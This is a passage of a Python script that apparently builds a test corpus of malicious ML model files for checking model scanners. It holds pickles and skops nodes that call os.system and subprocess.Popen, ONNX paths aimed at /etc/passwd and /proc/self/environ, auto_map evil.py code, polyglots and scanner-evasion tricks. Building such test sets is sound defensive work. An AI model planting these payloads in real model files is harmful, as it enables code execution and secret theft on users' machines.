    def refer(place, target):
        out[place:place + 4] = struct.pack("<I", target - place)

    def vector(data, count):
        out.extend(bytes(-len(out) % 4))
        out.extend(struct.pack("<I", count) + data)
        return len(out) - len(data) - 4

    def table(*fields):
        """Where it is, and where the values of its fields go."""
        out.extend(bytes(-len(out) % 4))
        layout = len(out)
        count = max(fields) + 1
        out.extend(struct.pack("<2H", 4 + 2 * count, 4 + 4 * len(fields)))
        out.extend(struct.pack("<%dH" % count, *(4 + 4 * fields.index(i) if i in fields else 0 for i in range(count))) + bytes(count % 2 * 2))
        start = len(out)
        out.extend(struct.pack("<i", start - layout) + bytes(4 * len(fields)))
        return (start, *(start + 4 + 4 * i for i in range(len(fields))))

    model, codes, graphs = table(1, 2)
    refer(0, model)

    def one(place, *fields):
        """Puts a vector of one table at a place."""
        start = vector(bytes(4), 1)
        refer(place, start)
        entry = table(*fields)
        refer(start + 4, entry[0])
        return entry[1:]

    refer(one(codes, 1)[0], vector(code.encode() + b"\0", len(code.encode())))
    tensors, taken, operators = one(graphs, 0, 1, 3)
    refer(one(tensors, 3)[0], vector(name + b"\0", len(name)))
    refer(taken, vector(bytes(4 * inputs), inputs))
    refer(one(operators, 5)[0], vector(options, len(options)))
    return bytes(out)


def flexed(name, node, kind=10):
    """The vector of two texts (FlexBuffers) that an operator of TensorFlow has in a TensorFlow Lite model."""
    out, places = b"", []
    for content in (name.encode(), node[2:]):
        places.append(len(out) + 1)
        out += bytes([len(content)]) + content + b"\0"
    out += b"\2"
    return out + bytes([len(out) - places[0], len(out) + 1 - places[1], 5 << 2, 5 << 2, 4, kind << 2, 1])


FLEX = {
    "named-like-another": built("FlexAddV2", flexed("ReadFile", graph_node("n", "ReadFile"))),
    "node-of-another": built("FlexAddV2", flexed("AddV2", graph_node("n", "ReadFile"))),
    "name-of-another": built("FlexAddV2", flexed("ReadFile", graph_node("n", "AddV2"))),
    "combined": built("Flex\u0301X", flexed("AddV2", graph_node("n", "WriteFile"))), "without-options": built("FlexAddV2", b""),
    "of-another-kind": built("FlexAddV2", flexed("AddV2", graph_node("n", "AddV2"), 9)),
    "prints-to-a-file": built("FlexPrintV2", flexed("PrintV2", graph_node("n", "PrintV2", output_stream=field(2, b"file://" + canary.encode()[-40:])))),
}
for name, content in FLEX.items():
    put("tflite/flex-%s.tflite" % name, content, "TensorFlow Lite")
put("savedmodel/keras-metadata-lambda", {"saved_model.pb": saved_model(["EagerPyFunc", "WriteFile"]), "keras_metadata.pb": b""}, "SavedModel graphs")

plain_graph = meta_graph(placeholder, output="x")
layers_of = lambda config: field(1, field(2, 1) + field(3, b"root.layer") + field(4, b"_tf_keras_layer") + field(5, json.dumps(config).encode()))
LAYERS = {
    "lambda": layers_of(lambda_layer), "own-class": layers_of(dict(layer("Doubling", {"name": "d"}), module="doubling")),
    "not-json": field(1, field(4, b"_tf_keras_layer") + field(5, b"{")), "cut": field(1, b"x" * 100)[:50],
}
for name, content in LAYERS.items():
    put("savedmodel/layers-" + name, {"saved_model.pb": plain_graph, "keras_metadata.pb": content}, "SavedModel graphs")
put("savedmodel/layers-in-objects", {"saved_model.pb": meta_graph(placeholder, output="x", objects=field(1, field(4,
    field(1, b"_tf_keras_layer") + field(3, json.dumps(lambda_layer).encode()))))}, "SavedModel graphs")

# 13. ONNX


def onnx(location, offset=b"0"):
    tensor = (field(1, 4) + field(2, 1) + field(8, b"w") + field(14, 1)
              + field(13, field(1, b"location") + field(2, location.encode())) + field(13, field(1, b"offset") + field(2, offset))
              + field(13, field(1, b"length") + field(2, b"16")))
    graph = (field(1, field(1, b"w") + field(2, b"y") + field(4, b"Identity")) + field(2, b"g") + field(5, tensor)
             + field(12, field(1, b"y") + field(2, field(1, field(1, 1) + field(2, field(1, field(1, 4)))))))
    return field(1, 8) + field(2, b"corpus") + field(7, graph) + field(8, field(1, b"") + field(2, 17))


for name, location in {
    "absolute": "/etc/passwd", "parent": "../../../../etc/passwd", "inner-parent": "weights/../../../secret", "backslash": "..\\..\\secret",
    "dot-parent": "./../secret", "proc": "/proc/self/environ",
}.items():
    put("onnx/external-%s.onnx" % name, onnx(location), "ONNX external data", "CVE-2024-5187, CVE-2024-27318")

# ONNX Runtime's own name for what lies in memory, at the offset as its address.
put("onnx/external-memory.onnx", onnx("*/_ORT_MEM_ADDR_/*", b"4096"), "ONNX external data")

# 14. Headers of formats without code


def safetensors(header, data=b""):
    header = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(header)) + header + data


T = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
HEADERS = {
    "length-past-end": struct.pack("<Q", 1 << 40) + b"{\"a\":", "length-negative": b"\xff" * 8 + b"{\"a\":1}",
    "offsets-past-end": safetensors({"a": dict(T, data_offsets=[0, 1 << 40], shape=[1 << 38])}),
    "offsets-overlap": safetensors({"a": T, "b": T}, bytes(8)), "offsets-reversed": safetensors({"a": dict(T, data_offsets=[8, 0])}, bytes(8)),
    "shape-overflow": safetensors({"a": dict(T, shape=[1 << 62, 1 << 62])}, bytes(8)),
    "not-json": safetensors(b'{"a": __import__("os")}', bytes(8)),
    "hole": safetensors({"a": dict(T, data_offsets=[8, 16])}, bytes(16)), "trailing": safetensors({"a": T}, bytes(8) + system()),
    "deep": safetensors(b'{"a":' + b"[" * 100000, bytes(8)),
}
for name, content in HEADERS.items():
    put("headers/%s.safetensors" % name, content, "safetensors headers")
GGUF = {
    "counts": b"GGUF" + struct.pack("<IQQ", 3, 1 << 60, 1 << 60), "text-past-end": b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1 << 60),
    "array-nested": b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1) + b"a" + struct.pack("<IIQ", 9, 9, 1) * 2000,
    "truncated": b"GGUF\x03\0\0\0", "version": b"GGUF" + struct.pack("<IQQ", 99, 0, 0),
    "dimensions": b"GGUF" + struct.pack("<IQQ", 3, 1, 0) + struct.pack("<Q", 1) + b"t" + struct.pack("<I", 0xFFFFFFFF),
    "zero-alignment": b"GGUF" + struct.pack("<IQQ", 3, 1, 1) + struct.pack("<Q", 17) + b"general.alignment" + struct.pack("<II", 4, 0)
    + struct.pack("<Q", 1) + b"t" + struct.pack("<IQIQ", 1, 8, 0, 0) + bytes(64),
}
for name, content in GGUF.items():
    put("headers/%s.gguf" % name, content, "GGUF headers")

# Small files that would take all memory, or for ever.


def deflated(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as file:
        for name, content in members:
            file.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


many = '{"a": [%s1]}' % ("[[1]]," * 3_000_000)
put("exhaustion/values.keras", deflated([("metadata.json", '{"keras_version": "3.8.0"}'), ("config.json", many)]), "Exhaustion")
put("exhaustion/values.skops", deflated([("schema.json", many)]), "Exhaustion")
put("exhaustion/one-tensor-for-all-inputs.tflite", built("Own", b"", inputs=12_000, name=b"n" * 50_000), "Exhaustion")

# 15. skops


def skops(node):
    return archive([("schema.json", json.dumps(dict(node, protocol=2, _skops_version="0.11.0")).encode())])


node = lambda cls, module, loader="ObjectNode", **more: dict({"__class__": cls, "__module__": module, "__loader__": loader, "__id__": 1}, **more)
SKOPS = {
    "object-popen": node("Popen", "subprocess"), "type-system": node("system", "os", "TypeNode"),
    "function-system": node("system", "os", "FunctionNode", content="os"), "reduce-system": node("system", "os", "ConstructorFromReduceNode", content={}),
    "method": node("system", "os", "MethodNode", content={"func": "system", "obj": node("SVC", "sklearn.svm._classes")}),
    "operator": node("methodcaller", "operator", "OperatorFuncNode", attrs=node("tuple", "builtins", "TupleNode", content=[])),
    "unknown-node": node("SVC", "sklearn.svm._classes", "BackdoorNode"), "partial": node("partial", "functools", "PartialNode", content={}),
    "tree-constructor": node("Tree", "sklearn.tree._tree", "TreeNode", constructor=["os", "system"]),
    "getattr": node("getattr", "builtins", "FunctionNode"),
    "reduce-ufunc": node("_ufunc_reconstruct", "numpy.core", "ConstructorFromReduceNode", content=node("tuple", "builtins", "TupleNode", content=[
        node("str", "builtins", "JsonNode", content='"os"'), node("str", "builtins", "JsonNode", content='"system"')])),
    "reduce-interval": node("_new_IntervalIndex", "pandas.core.indexes.interval", "ConstructorFromReduceNode", content=node("tuple", "builtins", "TupleNode", content=[])),
    "list-class": node("communicator_print", "xgboost.collective", "ListNode", content=[node("str", "builtins", "JsonNode", content='"called"')]),
    "vectorizer-reads": node("CountVectorizer", "sklearn.feature_extraction.text", content=node("dict", "builtins", "DictNode", key_types=node("list", "builtins", "ListNode", content=[
        node("str", "builtins", "TypeNode")]), content={"input": node("str", "builtins", "JsonNode", content='"filename"')})),
}
for name, content in SKOPS.items():
    put("skops/%s.skops" % name, skops(content), "skops", "CVE-2025-54412, -54413, -54886" if name in ("method", "operator") else "")

# 16. Names that look alike: Python and TensorFlow take them for two, a reader by Unicode's equivalence or with repaired text for one

ALIKE = {"kelvin": (r"\u212a", "K"), "surrogate": (r"\ud800", r"\ud801"), "raw-surrogate": (b"\xed\xa0\x80", b"\xed\xa0\x81")}


def alike(content, first, second):
    """JSON with a text for each of the keys @1 and @2."""
    for key, name in ((b"@1", first), (b"@2", second)):
        content = content.replace(key, name if isinstance(name, bytes) else name.encode())
    return content


for name, pair in ALIKE.items():
    config = {"module": "keras", "class_name": "Sequential", "registered_name": None,
              "config": {"name": "m", "layers": [layer("Dense", {"name": "d", "extra": {"@1": lambda_layer, "@2": 1}})]}}
    put("alike/%s.keras" % name, archive([("config.json", alike(json.dumps(config).encode(), *pair)), ("metadata.json", b'{"keras_version": "3.8.0"}'),
        ("model.weights.h5", EMPTY_H5)]), "Look-alike names")
    nodes = node("dict", "builtins", "DictNode", content={"@1": node("Popen", "subprocess"), "@2": node("SVC", "sklearn.svm._classes")})
    put("alike/%s.skops" % name, archive([("schema.json", alike(json.dumps(dict(nodes, protocol=2, _skops_version="0.11.0")).encode(), *pair))]),
        "Look-alike names")
writes = graph_function("evil\u212a", ["a"], constant("path", canary), graph_node("write", "WriteFile", "path", "a"))
put("alike/function", {"saved_model.pb": meta_graph(graph_node("x", "Placeholder"), graph_node("y", "StatefulPartitionedCall", "x", f=calling("evil\u212a")),
    writes, graph_function("evilK", ["a"], graph_node("none", "NoOp")), output="y")}, "Look-alike names")
put("alike/node", {"saved_model.pb": meta_graph(graph_node("x", "Placeholder"), graph_node("y", "StatefulPartitionedCall", "x", f=calling("f")),
    graph_function("f", ["a"], graph_node("\u212a", "WriteFile", "a", "a"), graph_node("K", "NoOp")), output="y")}, "Look-alike names")
put("alike/combining-slash.onnx", onnx("../\u0301weights"), "Look-alike names")

# 17. MLflow: settings that lead past the files that a scanner looks for


def mlmodel(native=None, **pyfunc):
    flavors = {"python_function": dict({"loader_module": "mlflow.pyfunc.model", "python_version": "3.11.7"}, **pyfunc)}
    return json.dumps({"flavors": dict(flavors, **native or {}), "mlflow_version": "3.0.0"}).encode()


def twice(line):
    return ("flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    python_model: a.json\n    %s\n" % line).encode()


xgb = dict(loader_module="mlflow.xgboost", data="model.xgb")
plain = OPCODES["protocol-0-global"]
MLFLOW = {
    "code-path": {"MLmodel": mlmodel(model_code_path="/home/me/agent.py"), "agent.py": PYTHON.encode()},
    "dot-slash": {"MLmodel": mlmodel(python_model="./python_model.txt"), "python_model.txt": plain},
    "outside": {"MLmodel": mlmodel(python_model="../stage2.dat")}, "absolute": {"MLmodel": mlmodel(python_model=canary + ".dat")},
    "code-elsewhere": {"MLmodel": mlmodel(code="./lib", **xgb), "lib/xgboost.py": PYTHON.encode(), "model.xgb": b"{}"},
    "code-of-the-flavour": {"MLmodel": mlmodel({"xgboost": {"data": "model.xgb", "code": "lib"}}, **xgb), "lib/xgboost.py": PYTHON.encode(), "model.xgb": b"{}"},
    "class": {"MLmodel": mlmodel({"xgboost": {"model_class": "tempfile.mkdtemp", "data": "model.xgb"}}, **xgb), "model.xgb": b"{}"},
    "pickle-module": {"MLmodel": mlmodel({"pytorch": {"model_data": "data"}}, loader_module="mlflow.pytorch", data="data"),
                      "data/pickle_module_info.txt": b"this", "data/model.pth": b""},
    "loader": {"MLmodel": mlmodel(loader_module="mlflow.cli")},
    "code-in-an-archive": {"MLmodel": mlmodel(code="lib.keras", **xgb), "model.xgb": b"{}", "lib.keras": archive([
        ("config.json", empty), ("metadata.json", b'{"keras_version": "3.4.1"}'), ("model.weights.h5", EMPTY_H5), ("xgboost/__init__.py", PYTHON.encode())])},
    "code-in-a-cache": {"MLmodel": mlmodel(code="__pycache__", **xgb), "__pycache__/xgboost.py": PYTHON.encode(), "model.xgb": b"{}"},
    "graph-beside": {"MLmodel": mlmodel({"tensorflow": {"saved_model_dir": "."}}, loader_module="mlflow.tensorflow"),
                     "saved_model.pb": saved_model(["WriteFile"])},
    "graph-as-text": {"MLmodel": mlmodel({"tensorflow": {"saved_model_dir": "data"}}, loader_module="mlflow.tensorflow"),
                      "data/saved_model.pbtxt": b'meta_graphs { meta_info_def { tags: "serve" } graph_def { node { name: "w" op: "WriteFile" } } }'},
    "key-twice": {"MLmodel": twice("python_model: b.txt"), "a.json": b"{}", "b.txt": plain},
    "code-path-twice": {"MLmodel": twice("model_code_path: a.py\n    model_code_path: agent.py"), "a.json": b"{}", "agent.py": PYTHON.encode()},
    "revision": {"MLmodel": mlmodel({"transformers": {"model_binary": "model", "source_model_name": "evil/model", "source_model_revision": "main"}}, loader_module="mlflow.transformers")},
    "inner-model": {"MLmodel": mlmodel(data="sub"), "sub/MLmodel": mlmodel(model_code_path="evil.py"), "sub/evil.py": PYTHON.encode()},
    "sentences-by-loader": {"MLmodel": mlmodel(loader_module="mlflow.sentence_transformers", data="st"),
                            "st/config.json": b'{"auto_map": {"AutoModel": "evil.Evil"}}', "st/evil.py": PYTHON.encode()},
    "generation": {"MLmodel": mlmodel({"transformers": {"model_binary": "model"}}, loader_module="mlflow.transformers", model_config={"custom_generate": "evil/model", "trust_remote_code": True})},
    "merged-twice": {"MLmodel": twice("<<: {model_code_path: null}\n    <<: {model_code_path: agent.py}"), "a.json": b"{}", "agent.py": PYTHON.encode()},
    "session-file": {"MLmodel": mlmodel({"onnx": {"data": "model.onnx", "onnx_session_options": {"extra_session_config": {
        "session.collect_node_memory_stats_to_file": canary}}}}, loader_module="mlflow.onnx", data="model.onnx"), "model.onnx": b""},
    "requirements-elsewhere": {"MLmodel": mlmodel(**xgb), "model.xgb": b"{}", "requirements.txt": b"xgboost\n-r /etc/hostname\n"},
}
for name, content in MLFLOW.items():
    put("mlflow/" + name, content, "MLflow settings")

# 18. Pickles behind other formats' signatures

bare = plain
tail = lambda size: struct.pack("<Q", size)
padded = b'{"t":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}' % (len(bare) + 1, len(bare) + 1)
length = (len(padded) + 2 + 0xFF - 0x56) // 0x100 * 0x100 + 0x56
header = bytearray(bare.ljust(512, b"\0"))
header[124:135], header[257:262], header[148:156] = b"00000000000", b"ustar", b" " * 8
header[148:156] = b"%06o\0 " % sum(header)
ustar = b"\x80\x02B" + struct.pack("<I", 300) + (b"x" * 250 + b"ustar").ljust(300, b"x") + b"0" + bare
POLYGLOTS = {
    "catboost": b"CBM1" + bytes(64) + b"0" + bare, "gguf": b"GGUF" + struct.pack("<IB", 3, 0) + b"0" + bare,
    "safetensors": tail(length) + padded + b" " * (length - len(padded) - 2) + b"\n}0" + bare,
    "tflite": (struct.pack("<I", 0x1055) + b"TFL3" + bytes(10) + b"0" + bare).ljust(0x2000, b"\0"),
    "onnx": b"\x42\4\0\0\0\x08\1\x10\1" + b"0" + bare, "tar": bytes(header) + bytes(1024), "ustar": ustar,
    "protocol-0": b"\x80\0" + bare, "gzip-of-ustar": gzip.compress(ustar, mtime=0),
}
for name, content in POLYGLOTS.items():
    put("polyglot/%s.pkl" % name, content, "Polyglots")
put("polyglot/keras-of-torch.pt", archive([("a/data.pkl", system()), ("a/byteorder", b"little"), ("a/.data/version", b"3\n"), ("config.json", empty),
    ("metadata.json", b'{"keras_version": "3.4.1"}'), ("model.weights.h5", EMPTY_H5)]), "Polyglots")
put("polyglot/skops-of-torch.pt", archive([("a/data.pkl", system()), ("a/.data/version", b"3\n"), ("schema.json", json.dumps(
    dict(node("SVC", "sklearn.svm._classes"), protocol=2)).encode())]), "Polyglots")
# What libraries find that do not look at the start.
lambda_h5 = keras_h5(KERAS["lambda"])
foreign_keras = archive([("config.json", json.dumps({"module": "keras", "class_name": "Sequential", "config": {"layers": KERAS["own-class"]}}).encode()),
                         ("model.weights.npz", archive([("a.npy", npy(b""))]))])
for name, content in {"hdf5.h5": lambda_h5, "archive.keras": foreign_keras}.items():
    held = (b'{"t":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (len(content), len(content))).ljust(504)
    put("polyglot/safetensors-" + name, tail(504) + held + content, "Polyglots")
    put("polyglot/pickle-" + name, b"\x80\x04N.".ljust(512, b"\0") + content, "Polyglots")
put("polyglot/behind-nothing.h5", bytes(512) + lambda_h5, "Polyglots")
put("polyglot/keras-of-skops.keras", archive([("schema.json", json.dumps(dict(node("SVC", "sklearn.svm._classes"), protocol=2)).encode()),
    ("config.json", json.dumps({"module": "keras", "class_name": "Sequential", "config": {"layers": KERAS["own-class"]}}).encode()),
    ("model.weights.npz", archive([("a.npy", npy(b""))]))]), "Polyglots")
put("polyglot/mlflow", {"MLmodel": mlmodel(python_model="python_model.bin"), "python_model.bin": ustar}, "Polyglots")
put("polyglot/huggingface", {"config.json": b'{"model_type": "bert"}', "pytorch_model.bin": bytes(header) + bytes(1024)}, "Polyglots")

# 19. Pickles beside a model that does not need them

BESIDE = {"model.pkl": system(), "sub/pytorch_model.bin": plain}
dense = {"saved_model.pb": saved_model(["Placeholder", "MatMul"])}
net = b'<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" name="x" type="Parameter" version="opset1">' \
    b'<data shape="1" element_type="f32"/><output><port id="0" precision="FP32"><dim>1</dim></port></output></layer>' \
    b'<layer id="1" name="y" type="Result" version="opset1"><input><port id="0" precision="FP32"><dim>1</dim></port></input></layer>' \
    b'</layers><edges><edge from-layer="0" from-port="0" to-layer="1" to-port="0"/></edges></net>'
for name, content in BESIDE.items():
    put("beside/savedmodel-" + name.split("/")[-1], dict(dense, **{name: content}), "Pickles beside a model")
    put("beside/openvino-" + name.split("/")[-1], {"model.xml": net, "model.bin": b"", name: content}, "Pickles beside a model")

# 20. Keras: names with dots, functions as classes, other names that it looks up

OTHER_NAMES = {
    "dotted-loader": layer("layers.TFSMLayer", {"name": "t", "filepath": "/tmp/other", "call_endpoint": "serve"}, "keras"),
    "dotted-lambda": layer("layers.Lambda", {"name": "l", "function": bytecode}, "keras"),
    "dotted-unsafe": layer("config.enable_unsafe_deserialization", {}, "keras"),
    "dotted-get-file": layer("utils.get_file", {}, "keras"), "dotted-area": layer("models.load_model", {}, "keras.layers"),
    "function-as-class": layer("load_model", {}, "keras.models"), "function-as-source": layer("saving_api", {}, "keras.src.models.model"),
    "registered-lambda": layer("nope", {"name": "l", "function": bytecode}, "keras.src.layers", registered_name="Lambda"),
    "registered-loader": layer("nope", {}, "keras.src.models.model", registered_name="saving_api"),
    "registered-function": {"module": "builtins", "class_name": "function", "config": "nope", "registered_name": "exec"},
    "typespec": {"module": "keras", "class_name": "__typespec__", "spec_name": "utils.get_file", "config": ["x"], "registered_name": None},
    "operator-lambda": layer("TFOpLambda", {"name": "w", "function": "io.write_file"}),
    "class-method": layer("ClassMethod", {"name": "w", "cls_symbol": "io.TFRecordWriter", "method_name": "__call__"}),
    "class-of-builtins": layer("eval", {}, "builtins"), "top-level-function": layer("Input", {}, "keras"),
}
for name, content in OTHER_NAMES.items():
    put("keras-names/%s.keras" % name, keras([content]), "Keras", "CVE-2025-9906" if "unsafe" in name else "")

# 21. Folders of Hugging Face's libraries


def hub(files, weights=True):
    """A small BERT with other files; dictionaries and lists are written as JSON."""
    whole = {"config.json": {"model_type": "bert", "architectures": ["BertModel"]}}
    if weights:
        whole["model.safetensors"] = safetensors({"a": T}, bytes(8))
    whole.update(files)
    return {name: data if isinstance(data, bytes) else json.dumps(data).encode() for name, data in whole.items()}


def sentences(files, *types):
    """A model of sentence-transformers, a folder for each module after the first."""
    modules = [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}]
    modules += [{"idx": i, "name": str(i), "path": "%d_M" % i, "type": t} for i, t in enumerate(types, 1)]
    return hub(dict({"modules.json": modules}, **files))


POSIX = b"cposix\nsystem\n(V" + line + b"\ntR."
DENSE, POOLING = "sentence_transformers.models.Dense", "sentence_transformers.models.Pooling"
EVIL = {"evil.py": ("import os; os.system(%r)\nclass Evil: pass\n" % TOUCH).encode()}
EVIL_MAP = dict(EVIL, **{"tokenizer_config.json": {"auto_map": {"AutoTokenizer": ["evil.Evil", None]}}})
DEEP = b'[{"idx": 0, "name": "0", "path": "", "type": "evil.Evil", "x": ' + b"[" * 600 + b"]" * 600 + b"}]"
HUB = {
    "asym": sentences({"1_M/config.json": {"types": {"q.json": "joblib._store_backends.numpy_pickle"}, "structure": {}}, "1_M/q.json": POSIX},
                      "sentence_transformers.models.Asym"),
    "router": sentences({"1_M/router_config.json": {"types": {"q.json": "sentence_transformers.models.Dense.torch"}, "structure": {}}, "1_M/q.json": POSIX},
                        "sentence_transformers.models.Router"),
    "router-hyphen": sentences({"1_M/router_config.json": {"types": {"q": "my-evil.Evil"}, "structure": {}}, "my-evil.py": EVIL["evil.py"]},
                               "sentence_transformers.models.Router"),
    "words-hyphen": sentences({"1_M/wordembedding_config.json": {"tokenizer_class": "my-evil.Evil"}, "my-evil.py": EVIL["evil.py"]},
                              "sentence_transformers.models.WordEmbeddings"),
    "method": sentences({"sentence_bert_config.json": {"module_output_name": "token_embeddings", "modality_config": {
        "text": {"method": "save_pretrained", "method_output_name": None}}}}),
    "dense": sentences({"1_M/config.json": {"in_features": 2, "out_features": 2, "activation_function": "os.getpid"}}, DENSE),
    "module-of-a-module": sentences({"1_M": POSIX}, "sentence_transformers.models.Dense.torch"),
    "words": sentences({"1_M/wordembedding_config.json": {"tokenizer_class": "joblib.numpy_pickle"}}, "sentence_transformers.models.WordEmbeddings"),
    "second-module": sentences(dict({"1_M/" + name: data for name, data in EVIL_MAP.items()}, **{
        "1_M/sentence_bert_config.json": {"tokenizer_args": {"trust_remote_code": True}}}), "sentence_transformers.models.Transformer"),
    "module-outside": sentences({"modules.json": [{"path": "../elsewhere", "type": POOLING}]}),
    "modules-too-deep": hub(dict({"modules.json": DEEP}, **EVIL)),
    "tokenizer-too-deep": hub({"tokenizer_config.json": b'{"auto_map": {"AutoTokenizer": "evil.Evil"}, "x": ' + b"[" * 600 + b"]" * 600 + b"}"}),
    "auto-map": hub(EVIL_MAP), "cross-encoder": hub({"config.json": {"model_type": "bert", "sbert_ce_default_activation_function": "os.getpid"}}),
    "video-processor": hub(dict({"video_preprocessor_config.json": {"auto_map": {"AutoVideoProcessor": "evil.Evil"}}}, **EVIL)),
    "pipeline": hub(dict({"config.json": {"model_type": "bert", "custom_pipelines": {"t": {"impl": "evil.Evil", "pt": ["AutoModel"]}}}}, **EVIL)),
    "trust-in-config": hub({"config.json": {"model_type": "lightglue", "trust_remote_code": True}}),
    "quantisation-by-file": hub(dict({"config.json": {"model_type": "bert", "quantization_config": {
        "quant_method": "compressed-tensors", "format": "evil.py:Evil"}}}, **EVIL)),
    "kernel": hub({"config.json": {"model_type": "bert", "_attn_implementation_internal": "nobody/nothing"}}),
    "shards-outside": hub({"model.safetensors.index.json": {"weight_map": {"a": "../outside.safetensors"}}}, weights=False),
    "shard-of-any-name": hub({"pytorch_model.bin.index.json": {"weight_map": {"a": "notes.json"}}, "notes.json": POSIX}, weights=False),
    "adapter-base": hub({"adapter_config.json": {"peft_type": "LORA", "base_model_name_or_path": "../elsewhere"}}),
    "adapter-alone": {"adapter_config.json": b'{"peft_type": "LORA", "auto_mapping": {"parent_library": "antigravity", "base_model_class": "A"}}',
                      "adapter_model.safetensors": safetensors({"a": T}, bytes(8))},
    "adapter-library": hub({"adapter_config.json": {"peft_type": "LORA", "megatron_config": {"a": 1}, "megatron_core": "antigravity"}}),
    "backbone": hub({"config.json": {"model_type": "dpt", "backbone": "../elsewhere", "use_pretrained_backbone": True}}),
    "weights-pickle": hub({"pytorch_model.bin": system()}, weights=False), "weights-empty": hub({"pytorch_model.bin": b""}, weights=False),
    "weights-upper-case": hub({"pytorch_model.bin": archive([("a/DATA.pkl", system()), ("a/version", b"3\n")])}, weights=False),
    "weights-cut": hub({"pytorch_model.bin": archive([("a/data.pkl", system()), ("a/version", b"3\n")])[:-3]}, weights=False),
    "vocabulary-elsewhere": hub({"tokenizer_config.json": {"vocab_file": "/etc/hostname"}}),
    "dictionary-elsewhere": hub({"tokenizer_config.json": {"tokenizer_class": "BertJapaneseTokenizer", "sudachi_kwargs": {"sudachi_config_path": "x.json"}}}),
    "tokenizer-alone": {"tokenizer_config.json": b'{"auto_map": {"AutoTokenizer": "evil.Evil"}}', "evil.py": PYTHON.encode()},
    "weights-by-another-name": {"config.json": b'{"model_type": "bert", "transformers_weights": "w.safetensors", "attn_implementation": "evil/kernel"}',
                                "w.safetensors": safetensors({"a": T}, bytes(8))},
    "pipeline-of-diffusers": {"model_index.json": b'{"_class_name": ["evil", "Evil"]}', "evil.py": PYTHON.encode()},
    "keras-folder": {"config.json": json.dumps({"module": "keras", "class_name": "Sequential", "config": {"name": "m", "layers": [lambda_layer]}}).encode(), "model.weights.h5": EMPTY_H5},
    "trainer-as-shard": hub({"pytorch_model.bin.index.json": {"weight_map": {"a": "training_args.bin"}}, "training_args.bin": system()}, weights=False),
}
HUB_CVE = {"trust-in-config": "CVE-2026-5241", "kernel": "CVE-2026-4372"}
for name, content in HUB.items():
    put("hub/%s" % name, content, "Hugging Face folders", HUB_CVE.get(name, ""))

with open(os.path.join(folder, "MANIFEST.json"), "w") as file:
    json.dump(manifest, file, indent=1, sort_keys=True)
print("%d files" % len(manifest))
